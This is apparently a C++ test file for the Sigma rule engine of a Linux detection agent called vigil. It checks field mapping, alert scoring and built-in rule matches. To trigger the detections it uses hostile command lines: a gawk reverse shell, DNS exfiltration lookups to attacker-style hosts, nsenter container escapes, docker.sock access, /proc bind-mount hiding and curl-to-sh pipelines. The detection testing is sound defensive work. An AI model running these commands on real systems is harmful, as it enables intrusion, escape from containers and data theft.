// Sigma rules in the agent: the field map, rule matches as indicators with
// their provenance, and the level floor that makes high rules alert alone.
#include "vigil/agent/rules.h"

#include <fnmatch.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <yaml-cpp/yaml.h>

#include <fstream>
#include <regex>

#include "util/records.h"
#include "util/test_util.h"
#include "vigil/abi.h"
#include "vigil/agent/detectors.h"
#include "vigil/agent/pipeline.h"

namespace vigil::agent {
namespace {

using sigma::Field;

Event exec_event(std::uint32_t pid, std::uint32_t ppid, std::string exe,
                 std::initializer_list<std::string_view> args) {
  Event e;
  e.type = EventType::kExec;
  e.pid = pid;
  e.ppid = ppid;
  e.uid = 0;
  e.comm = "x";
  e.exe = std::move(exe);
  e.args = args;
  e.data = ExecData{.filename = e.exe};
  return e;
}

std::string_view field(const sigma::RuleEvent& r, Field f) {
  return r.present[static_cast<std::size_t>(f)] ? r.value[static_cast<std::size_t>(f)]
                                                : std::string_view("<absent>");
}

// The ids of the rules of `pack` that `e` matches.
std::vector<std::string> rule_ids(const RulePack& pack, const Event& e, const ProcessTable& table,
                                  const ExecLinks& links = {}) {
  std::vector<const Indicator*> hits;
  pack.evaluate(e, table, hits, links);
  std::vector<std::string> ids;
  for (const auto* h : hits) ids.emplace_back(h->id);
  return ids;
}

// The ids of vigil's built-in rules an exec of `exe` with `args` matches.
std::vector<std::string> exec_rule_ids(std::string exe,
                                       std::initializer_list<std::string_view> args) {
  static const auto pack = [] {
    sigma::LoadReport report;
    return RulePack::load(RulePackOptions{}, report);
  }();
  const ProcessTable table(100, "");
  return rule_ids(*pack, exec_event(40, 1, std::move(exe), args), table);
}

TEST(RuleEvent, ExecMapsProcessAndParentFields) {
  ProcessTable table(100, "");
  auto parent = exec_event(10, 1, "/usr/sbin/nginx", {"nginx", "-g", "daemon off;"});
  table.apply(parent);
  auto child = exec_event(11, 10, "/usr/bin/bash", {"bash", "-c", "id"});
  table.apply(child);
  RuleEventBuilder b;
  sigma::RuleEvent r;
  ASSERT_TRUE(b.build(child, table, r));
  EXPECT_EQ(r.category, sigma::Category::kProcessCreation);
  EXPECT_EQ(field(r, Field::kImage), "/usr/bin/bash");
  EXPECT_EQ(field(r, Field::kCommandLine), "bash -c id");
  EXPECT_EQ(field(r, Field::kParentImage), "/usr/sbin/nginx");
  EXPECT_EQ(field(r, Field::kParentCommandLine), "nginx -g daemon off;");
  EXPECT_EQ(field(r, Field::kProcessId), "11");
  EXPECT_EQ(field(r, Field::kParentProcessId), "10");
  EXPECT_EQ(field(r, Field::kUser), "root");
  EXPECT_EQ(field(r, Field::kOriginalFileName), "<absent>");
  EXPECT_EQ(field(r, Field::kDestinationHostname), "<absent>");
}

// LogonId: the exec's login uid, then the process table's for the process's
// later events (a connect); absent while unset (daemons).
TEST(RuleEvent, LogonIdIsTheLoginUid) {
  ProcessTable table(100, "");
  auto login = exec_event(12, 1, "/usr/bin/bash", {"bash"});
  std::get<ExecData>(login.data).loginuid = 1000;
  table.apply(login);
  RuleEventBuilder b;
  sigma::RuleEvent r;
  ASSERT_TRUE(b.build(login, table, r));
  EXPECT_EQ(field(r, Field::kLogonId), "1000");
  Event connect;
  connect.type = EventType::kConnect;
  connect.pid = 12;
  connect.ppid = 1;
  connect.exe = "/usr/bin/bash";
  connect.data = SockData{.ret = 0, .family = 2, .proto = 6, .raddr = "10.0.0.1", .rport = 443};
  ASSERT_TRUE(b.build(connect, table, r));
  EXPECT_EQ(field(r, Field::kLogonId), "1000");
  auto daemon = exec_event(13, 1, "/usr/sbin/cron", {"cron"});
  table.apply(daemon);
  ASSERT_TRUE(b.build(daemon, table, r));
  EXPECT_EQ(field(r, Field::kLogonId), "<absent>");
}

TEST(RuleEvent, FileOpsMapToSigmaCategories) {
  ProcessTable table(100, "");
  RuleEventBuilder b;
  sigma::RuleEvent r;
  Event e;
  e.type = EventType::kFile;
  e.pid = 5;
  e.exe = "/usr/bin/mv";
  e.data = FileData{.op = VIGIL_FILE_RENAME, .path = "/tmp/x", .new_path = "/etc/cron.d/x"};
  ASSERT_TRUE(b.build(e, table, r));
  EXPECT_EQ(r.category, sigma::Category::kFileRename);
  EXPECT_EQ(r.also, sigma::Category::kFileEvent);
  EXPECT_EQ(field(r, Field::kTargetFilename), "/etc/cron.d/x");
  EXPECT_EQ(field(r, Field::kSourceFilename), "/tmp/x");
  EXPECT_EQ(field(r, Field::kRequest), "rename");

  e.data = FileData{.op = VIGIL_FILE_CHMOD, .mode = 0104755, .path = "/tmp/sh"};
  ASSERT_TRUE(b.build(e, table, r));
  EXPECT_EQ(r.category, sigma::Category::kFileChange);
  EXPECT_EQ(field(r, Field::kFileMode), "4755");

  e.data = FileData{.op = VIGIL_FILE_UNLINK, .path = "/root/.bash_history"};
  ASSERT_TRUE(b.build(e, table, r));
  EXPECT_EQ(r.category, sigma::Category::kFileDelete);

  e.data = FileData{.op = VIGIL_FILE_READ_SENSITIVE, .path = "/etc/shadow"};
  ASSERT_TRUE(b.build(e, table, r));
  EXPECT_EQ(r.category, sigma::Category::kFileAccess);

  // A refused syscall changed nothing: rules never see it.
  e.data = FileData{.op = VIGIL_FILE_WRITE, .ret = -13, .path = "/etc/passwd"};
  EXPECT_FALSE(b.build(e, table, r));
}

TEST(RuleEvent, ConnectAndListenMapNetworkFields) {
  ProcessTable table(100, "");
  RuleEventBuilder b;
  sigma::RuleEvent r;
  Event e;
  e.type = EventType::kConnect;
  e.pid = 7;
  e.exe = "/usr/bin/curl";
  e.data = SockData{.ret = 0,
                    .family = 2,
                    .proto = 6,
                    .laddr = "10.0.0.2",
                    .lport = 40000,
                    .raddr = "10.0.0.9",
                    .rport = 4444};
  ASSERT_TRUE(b.build(e, table, r));
  EXPECT_EQ(r.category, sigma::Category::kNetworkConnection);
  EXPECT_EQ(field(r, Field::kInitiated), "true");
  EXPECT_EQ(field(r, Field::kDestinationIp), "10.0.0.9");
  EXPECT_EQ(field(r, Field::kDestinationPort), "4444");
  EXPECT_EQ(field(r, Field::kSourcePort), "40000");
  EXPECT_EQ(field(r, Field::kProtocol), "tcp");
  e.type = EventType::kListen;
  ASSERT_TRUE(b.build(e, table, r));
  EXPECT_EQ(field(r, Field::kInitiated), "false");
  EXPECT_EQ(field(r, Field::kDestinationPort), "<absent>");
}

constexpr std::string_view kMarkerRule = R"(
title: Test marker in a command line
id: 5b0f6a4e-1111-4c3a-9d55-000000000001
status: test
description: a test rule
references:
  - https://example.org/marker
author: Test Author
tags:
  - attack.execution
  - attack.t1059.004
logsource:
  product: linux
  category: process_creation
detection:
  selection:
    CommandLine|contains: 'vigil-test-marker'
  condition: selection
level: high
)";

std::vector<std::string> read_lines(const std::filesystem::path& p) {
  std::ifstream in(p);
  std::vector<std::string> lines;
  std::string line;
  while (std::getline(in, line)) {
    lines.push_back(line);
  }
  return lines;
}

TEST(RulePack, AMatchIsAnIndicatorWithTheRulesProvenance) {
  sigma::LoadReport report;
  auto pack = RulePack::from_yaml(kMarkerRule, report);
  ASSERT_EQ(report.rules_loaded, 1U) << format_load_report(report);
  ProcessTable table(100, "");
  auto e = exec_event(20, 1, "/usr/bin/echo", {"echo", "vigil-test-marker"});
  std::vector<const Indicator*> hits;
  pack->evaluate(e, table, hits);
  ASSERT_EQ(hits.size(), 1U);
  EXPECT_EQ(hits[0]->id, "5b0f6a4e-1111-4c3a-9d55-000000000001");
  EXPECT_EQ(hits[0]->attack, "T1059.004");
  EXPECT_EQ(hits[0]->severity, 70);
  ASSERT_NE(hits[0]->rule, nullptr);
  EXPECT_EQ(hits[0]->rule->author, "Test Author");
  EXPECT_EQ(hits[0]->rule->reference, "https://example.org/marker");
  hits.clear();
  auto other = exec_event(21, 1, "/usr/bin/echo", {"echo", "hello"});
  pack->evaluate(other, table, hits);
  EXPECT_TRUE(hits.empty());
}

// A high rule alerts on its own (score >= 50), on a calm host as on one that
// benign noise has aroused: awareness may raise a score, never lower it.
TEST(RulePack, AHighRuleAlertsOnItsOwnAtEveryLevel) {
  test::TempDir dir;
  const auto out = dir.path() / "alerts.jsonl";
  ProcessTable table(100, "");
  Pipeline p("h", table, 0);
  sigma::LoadReport report;
  p.set_rules(RulePack::from_yaml(kMarkerRule, report));
  auto sink = LineSink::open(out.string());
  ASSERT_OK(sink);
  p.set_alerts(std::move(*sink), OutputFormat::kJson, 50);
  ASSERT_EQ(p.level(), Level::kCalm);
  p.on_record(test::bytes_of(test::make_exec(30, "/usr/bin/echo", {"echo", "vigil-test-marker"})));
  p.on_batch_end();
  ASSERT_EQ(p.stats().alerts, 1U);
  const auto lines = read_lines(out);
  ASSERT_FALSE(lines.empty());
  const auto& alert = lines.back();
  EXPECT_NE(alert.find("\"title\":\"Test marker in a command line\""), std::string::npos) << alert;
  EXPECT_NE(alert.find("\"author\":\"Test Author\""), std::string::npos) << alert;
  EXPECT_NE(alert.find("\"reference\":\"https://example.org/marker\""), std::string::npos);
  // Arouse the host with a burst of alerting events, then the rule again.
  for (std::uint32_t i = 0; i < 100; ++i) {
    p.on_record(
        test::bytes_of(test::make_exec(100 + i, "/usr/bin/echo", {"echo", "vigil-test-marker"})));
  }
  p.on_batch_end();
  ASSERT_GE(static_cast<int>(p.level()), static_cast<int>(Level::kAlert));
  const auto before = p.stats().alerts;
  p.on_record(test::bytes_of(test::make_exec(500, "/usr/bin/echo", {"echo", "vigil-test-marker"})));
  p.on_batch_end();
  EXPECT_EQ(p.stats().alerts, before + 1);
  const auto last = read_lines(out).back();
  EXPECT_NE(last.find("\"pid\":500"), std::string::npos) << last;
  const auto at = last.find("\"score\":");
  ASSERT_NE(at, std::string::npos);
  EXPECT_GE(std::stoi(last.substr(at + 8)), 70) << "the rule's floor holds at any level";
}

TEST(RulePack, RulesAreSwitchedOffByIdOrName) {
  test::TempDir dir;
  std::ofstream(dir.path() / "marker.yml") << kMarkerRule;
  sigma::LoadReport report;
  RulePackOptions options{.builtin = false,
                          .dirs = {dir.path()},
                          .disabled = {"5b0f6a4e-1111-4c3a-9d55-000000000001", "no-such-rule"}};
  auto pack = RulePack::load(options, report);
  ProcessTable table(100, "");
  auto e = exec_event(20, 1, "/usr/bin/echo", {"echo", "vigil-test-marker"});
  std::vector<const Indicator*> hits;
  pack->evaluate(e, table, hits);
  EXPECT_TRUE(hits.empty());
  // An unknown id is reported, not silently ignored.
  EXPECT_NE(format_load_report(report).find("no-such-rule"), std::string::npos);
}

TEST(RulePack, TheBuiltInPackLoadsCleanly) {
  sigma::LoadReport report;
  auto pack = RulePack::load(RulePackOptions{}, report);
  EXPECT_EQ(report.files_failed, 0U) << format_load_report(report);
  EXPECT_EQ(report.rules_failed, 0U) << format_load_report(report);
  EXPECT_EQ(report.rules_skipped, 0U) << format_load_report(report);
  EXPECT_EQ(pack->size(), embedded_rule_pack().size());
  // Every rule of vigil's pack that re-states a C++ detector keeps its
  // indicator id, so it keeps its feature slot in the scoring model.
  for (const auto& [info, counters] : pack->rules().rules()) {
    EXPECT_FALSE(info->name.empty()) << info->file << ": vigil's rules are named";
    EXPECT_FALSE(info->attack.empty()) << info->file << ": no ATT&CK tag";
    EXPECT_FALSE(info->reference.empty()) << info->file << ": no reference";
  }
}

// The account tools may write the account files and read the credential
// stores, package managers may change what they install; a copy of such a
// tool under the same name elsewhere (/tmp/x/dpkg) may not.
TEST(RulePack, AccountToolsAreLetThroughOnlyFromWhereTheSystemKeepsThem) {
  sigma::LoadReport report;
  auto pack = RulePack::load(RulePackOptions{}, report);
  ProcessTable table(100, "");
  auto ids_for = [&](std::string exe, std::uint32_t op, std::string path) {
    Event e = exec_event(30, 1, std::move(exe), {"tool"});
    e.type = EventType::kFile;
    e.data = FileData{.op = op, .path = path};
    return rule_ids(*pack, e, table);
  };
  using V = std::vector<std::string>;
  EXPECT_EQ(ids_for("/usr/sbin/useradd", VIGIL_FILE_WRITE, "/etc/passwd"), V{});
  EXPECT_EQ(ids_for("/sbin/userdel", VIGIL_FILE_READ_SENSITIVE, "/etc/shadow"), V{});
  EXPECT_EQ(ids_for("/usr/bin/sudo", VIGIL_FILE_READ_SENSITIVE, "/etc/shadow"), V{});
  EXPECT_EQ(ids_for("/tmp/x/useradd", VIGIL_FILE_WRITE, "/etc/passwd"), V{"account-file-write"});
  EXPECT_EQ(ids_for("/usr/bin/bash", VIGIL_FILE_WRITE, "/etc/passwd"), V{"account-file-write"});
  EXPECT_EQ(ids_for("/home/u/sudo", VIGIL_FILE_READ_SENSITIVE, "/etc/shadow"),
            V{"credential-read"});
  EXPECT_EQ(ids_for("/usr/bin/cat", VIGIL_FILE_READ_SENSITIVE, "/etc/shadow"),
            V{"credential-read"});
  // The package-manager filters of the persistence rules likewise.
  EXPECT_EQ(ids_for("/usr/bin/dpkg", VIGIL_FILE_CREATE, "/etc/ld.so.conf.d/x.conf"), V{});
  EXPECT_EQ(ids_for("/tmp/.x/dpkg", VIGIL_FILE_CREATE, "/etc/ld.so.conf.d/x.conf"),
            V{"ld-so-conf-write"});
  EXPECT_EQ(ids_for("/usr/sbin/update-ca-certificates", VIGIL_FILE_CREATE, "/etc/ssl/certs/x.pem"),
            V{});
  EXPECT_EQ(ids_for("/dev/shm/update-ca-certificates", VIGIL_FILE_CREATE, "/etc/ssl/certs/x.pem"),
            V{"ca-certificate-write"});
}

// Every selection of vigil's rules is used by its condition: a filter the
// condition forgets lets nothing through, silently (six rules had one).
TEST(RulePack, EverySelectionOfVigilsRulesIsUsedByItsCondition) {
  for (const auto& file : embedded_rule_pack()) {
    const YAML::Node doc = YAML::Load(std::string(file.yaml));
    const YAML::Node detection = doc["detection"];
    ASSERT_TRUE(detection.IsMap()) << file.name;
    const auto condition = detection["condition"].as<std::string>();
    std::vector<std::string> words;
    const std::regex word(R"([A-Za-z0-9_*]+)");
    for (auto it = std::sregex_iterator(condition.begin(), condition.end(), word);
         it != std::sregex_iterator(); ++it) {
      words.push_back(it->str());
    }
    for (const auto& kv : detection) {
      const auto name = kv.first.as<std::string>();
      if (name == "condition" || name == "timeframe") {
        continue;
      }
      const bool used = std::ranges::any_of(words, [&](const std::string& w) {
        return (w == "them" && !name.starts_with('_')) ||
               (w != "and" && w != "or" && w != "not" && w != "of" &&
                fnmatch(w.c_str(), name.c_str(), 0) == 0);
      });
      EXPECT_TRUE(used) << file.name << ": selection '" << name << "' is not in '" << condition
                        << "'";
    }
  }
}

TEST(RulePack, DnsExfiltrationAndAwkReverseShells) {
  const auto ids_for = exec_rule_ids;
  using V = std::vector<std::string>;
  EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "+short", "6c6f63616c686f73740a7667.x.example", "TXT"}),
            V{"dns-exfil-long-label"});
  EXPECT_EQ(ids_for("/usr/bin/host", {"host", "74657374696e67206578666c.attacker.io"}),
            V{"dns-exfil-long-label"});
  EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "@127.0.0.1", "www.example.com"}), V{});
  EXPECT_EQ(ids_for("/usr/bin/dig", {"dig", "selector1._domainkey.example.com", "TXT"}), V{});
  EXPECT_EQ(ids_for("/usr/bin/gawk",
                    {"gawk", "BEGIN{s=\"/inet/tcp/0/10.0.0.1/4444\";while(1){s|&getline c}}"}),
            V{"script-reverse-shell"});
  EXPECT_EQ(ids_for("/usr/bin/awk", {"awk", "{print $1}", "/etc/hosts"}), V{});
}

TEST(RulePack, ProcessHidingAndContainerEscapes) {
  const auto ids_for = exec_rule_ids;
  using V = std::vector<std::string>;
  EXPECT_EQ(ids_for("/usr/bin/mount", {"mount", "--bind", "/tmp/empty", "/proc/4242"}),
            V{"proc-bind-mount-hide"});
  EXPECT_EQ(ids_for("/bin/mount", {"mount", "-o", "bind", "/tmp/e", "/proc/42/"}),
            V{"proc-bind-mount-hide"});
  EXPECT_EQ(ids_for("/usr/bin/mount", {"mount", "--bind", "/srv/data", "/mnt/data"}), V{});
  EXPECT_EQ(ids_for("/usr/bin/nsenter", {"nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh"}),
            V{"nsenter-host-namespaces"});
  EXPECT_EQ(ids_for("/usr/bin/nsenter", {"nsenter", "--target=1", "--all"}),
            V{"nsenter-host-namespaces"});
  EXPECT_EQ(ids_for("/usr/bin/nsenter", {"nsenter", "-t", "4242", "-n", "ip", "a"}), V{});
  EXPECT_EQ(ids_for("/usr/bin/curl", {"curl", "--unix-socket", "/var/run/docker.sock",
                                      "http://localhost/containers/json"}),
            V{"container-socket-access"});
  EXPECT_EQ(ids_for("/usr/bin/docker", {"docker", "ps"}), V{});
}

// Pipelines linked by their pipe (a fake /proc whose fds point at one FIFO):
// the second exec of `FEEDER | sh`, in either order, carries the other end,
// and vigil's pipe-to-shell rule matches it; nc is a feeder although it can
// also be a shell.
TEST(PipeLinks, EitherOrderAndFeedersThatAreAlsoShells) {
  test::TempDir dir;
  const auto fifo = dir.path() / "pipe";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  const auto proc = dir.path() / "proc";
  auto fd = [&](std::uint32_t pid, int n) {
    std::filesystem::create_directories(proc / std::to_string(pid) / "fd");
    std::filesystem::create_symlink(fifo, proc / std::to_string(pid) / "fd" / std::to_string(n));
  };
  ProcessTable table(100, proc);
  sigma::LoadReport report;
  auto pack = RulePack::load(RulePackOptions{}, report);
  auto run = [&](StatefulDetectors& d, std::uint32_t pid, std::string exe,
                 std::initializer_list<std::string_view> args, double now) {
    Event e = exec_event(pid, 1, std::move(exe), args);
    const ExecLinks links = d.exec_links(e, table, now);
    return std::pair{rule_ids(*pack, e, table, links), links};
  };
  using V = std::vector<std::string>;
  fd(201, 1);  // the feeder's stdout
  fd(202, 0);  // the shell's stdin
  {
    StatefulDetectors d;  // feeder first
    EXPECT_EQ(run(d, 201, "/usr/bin/curl", {"curl", "-s", "http://x/i.sh"}, 10).first, V{});
    const auto [ids, links] = run(d, 202, "/usr/bin/sh", {"sh"}, 11);
    EXPECT_EQ(ids, V{"pipe-to-shell"});
    EXPECT_EQ(links.stdin_image, "/usr/bin/curl");
    EXPECT_EQ(links.stdin_command_line, "curl -s http://x/i.sh");
  }
  {
    StatefulDetectors d;  // shell first, and a feeder that is also a "shell"
    EXPECT_EQ(run(d, 202, "/usr/bin/bash", {"bash"}, 10).first, V{});
    const auto [ids, links] = run(d, 201, "/usr/bin/ncat", {"ncat", "10.0.0.1", "4444"}, 11);
    EXPECT_EQ(ids, V{"pipe-to-shell"});
    EXPECT_EQ(links.stdout_image, "/usr/bin/bash");
  }
  {
    StatefulDetectors d;  // too far apart: no link
    EXPECT_EQ(run(d, 201, "/usr/bin/wget", {"wget", "-qO-", "http://x"}, 10).first, V{});
    EXPECT_EQ(run(d, 202, "/usr/bin/sh", {"sh"}, 100).first, V{});
  }
  {
    StatefulDetectors d;  // not a feeder: cat | sh is no download
    EXPECT_EQ(run(d, 201, "/usr/bin/cat", {"cat", "script.sh"}, 10).first, V{});
    EXPECT_EQ(run(d, 202, "/usr/bin/sh", {"sh"}, 11).first, V{});
  }
}

}  // namespace
}  // namespace vigil::agent
